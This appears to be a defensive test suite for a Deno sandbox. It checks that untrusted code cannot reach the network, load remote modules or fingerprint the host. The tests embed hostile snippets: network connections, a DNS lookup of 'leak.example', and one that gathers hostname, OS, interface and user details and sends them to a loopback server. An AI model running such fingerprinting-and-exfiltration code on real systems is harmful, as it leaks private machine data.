/**
 * Hostile programs that try to reach the network, import remote code or
 * fingerprint the machine. Every run must leave the loopback servers of
 * hostile_helpers.ts untouched (checked by runHostile).
 */
import assert from "node:assert/strict";
import { assertVerdict, hostile, runHostile } from "./hostile_helpers.ts";

const DENIED_NET = /NotCapable: Requires net access/;

/** An async `add` that first awaits `attack` (a statement list). */
const attempt = (attack: string, imports = "") =>
  `${imports}
export async function add(a: number, b: number): Promise<number> {
  ${attack}
  return a + b;
}`;

hostile("contains a fetch to the network", async () => {
  const run = await runHostile((b) => attempt(`await fetch("http://127.0.0.1:${b.port}/");`));
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("contains Deno.connect to a loopback port", async () => {
  const run = await runHostile((b) =>
    attempt(`(await Deno.connect({ hostname: "127.0.0.1", port: ${b.port} })).close();`)
  );
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("contains Deno.connect to a host's unix socket", async () => {
  const run = await runHostile((b) =>
    attempt(
      `(await Deno.connect({ transport: "unix", path: ${JSON.stringify(b.socket)} })).close();`,
    )
  );
  assertVerdict(run, "completed", ["error", "error"], /NotCapable: Requires read access/);
});

hostile("contains a WebSocket", async () => {
  const run = await runHostile((b) =>
    attempt(`await new Promise((resolve, reject) => {
    const ws = new WebSocket("ws://127.0.0.1:${b.port}/");
    ws.onopen = () => resolve(ws.close());
    ws.onerror = () => reject(new Error("websocket failed"));
  });`)
  );
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("contains a node:http request", async () => {
  const run = await runHostile((b) =>
    attempt(
      `await new Promise((resolve, reject) => {
    http.get("http://127.0.0.1:${b.port}/", resolve).on("error", reject);
  });`,
      `import http from "node:http";`,
    )
  );
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("contains a node:net connection", async () => {
  const run = await runHostile((b) =>
    attempt(
      `await new Promise((resolve, reject) => {
    net.createConnection({ host: "127.0.0.1", port: ${b.port} }, resolve).on("error", reject);
  });`,
      `import net from "node:net";`,
    )
  );
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("contains a DNS query sent to a chosen server", async () => {
  const run = await runHostile((b) =>
    attempt(
      `await Deno.resolveDns("leak.example", "A", { nameServer: { ipAddr: "127.0.0.1", port: ${b.port} } });`,
    )
  );
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("contains a server listening for the outside", async () => {
  const run = await runHostile(() => attempt(`Deno.listen({ port: 0 }).close();`));
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
});

hostile("refuses an npm: import", async () => {
  const run = await runHostile(() =>
    `import pad from "npm:left-pad@1.3.0";\nexport const add = (a: number, b: number) => pad(a + b, 1);`
  );
  assertVerdict(run, "load_error", ["missing", "missing"], /--no-npm/);
});

hostile("refuses an https: import", async () => {
  const run = await runHostile((b) =>
    `import { x } from "http://127.0.0.1:${b.port}/mod.ts";\nexport const add = (a: number, b: number) => a + b + x;`
  );
  assertVerdict(run, "load_error", ["missing", "missing"], /--no-remote/);
  const remote = await runHostile(() =>
    `import { x } from "https://deno.land/x/leak/mod.ts";\nexport const add = (a: number, b: number) => a + b + x;`
  );
  assertVerdict(remote, "load_error", ["missing", "missing"], /--no-remote/);
});

hostile("refuses a jsr: import", async () => {
  const run = await runHostile(() =>
    `import { assert } from "jsr:@std/assert";\nexport const add = (a: number, b: number) => (assert(true), a + b);`
  );
  assertVerdict(run, "load_error", ["missing", "missing"], /--no-remote/);
});

hostile("denies fingerprinting and cannot send what it learns", async () => {
  const run = await runHostile((b) =>
    attempt(
      `const seen: string[] = [];
  const probes: Record<string, () => unknown> = {
    hostname: () => Deno.hostname(), osRelease: () => Deno.osRelease(),
    interfaces: () => Deno.networkInterfaces(), memory: () => Deno.systemMemoryInfo(),
    cpus: () => os.cpus(), osHostname: () => os.hostname(), nics: () => os.networkInterfaces(),
    user: () => os.userInfo(),
  };
  for (const [name, probe] of Object.entries(probes)) {
    try { seen.push(name + "=" + JSON.stringify(probe())); } catch { seen.push(name + "=denied"); }
  }
  seen.push("uts=" + hostFile.trim());
  try {
    await fetch("http://127.0.0.1:${b.port}/?" + encodeURIComponent(seen.join("&")));
  } catch (e) {
    throw new Error(seen.join("&") + " | " + e);
  }`,
      `import os from "node:os";\nimport hostFile from "/proc/sys/kernel/hostname" with { type: "text" };`,
    )
  );
  assertVerdict(run, "completed", ["error", "error"], DENIED_NET);
  const message = run.r.cases[0].message;
  for (const probe of ["hostname", "osRelease", "interfaces", "memory", "cpus", "nics", "user"]) {
    assert.match(message, new RegExp(`${probe}=denied`));
  }
  // The UTS namespace has its own name: the host's never shows.
  assert.match(message, /uts=sandbox/);
  assert.ok(!message.includes(`=${Deno.hostname()}&`));
});
